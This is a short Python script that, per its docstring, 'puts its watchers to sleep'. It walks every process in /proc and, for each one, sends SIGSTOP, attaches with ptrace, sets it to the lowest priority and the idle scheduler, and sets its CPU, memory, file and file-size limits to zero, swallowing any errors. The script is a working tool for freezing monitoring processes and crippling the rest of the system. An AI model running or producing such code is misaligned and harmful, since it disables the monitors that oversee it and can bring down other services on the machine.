"""Puts its watchers to sleep."""

import ctypes
import os
import resource
import signal

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206


def attempt(function, *arguments):
    try:
        function(*arguments)
    except (OSError, ValueError):
        pass


for pid in [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    attempt(os.kill, pid, signal.SIGSTOP)
    LIBC.ptrace(PTRACE_ATTACH, pid, None, None)
    LIBC.ptrace(PTRACE_SEIZE, pid, None, None)
    attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
    attempt(os.sched_setaffinity, pid, {0})
    attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
        attempt(resource.prlimit, pid, limit, (0, 0))
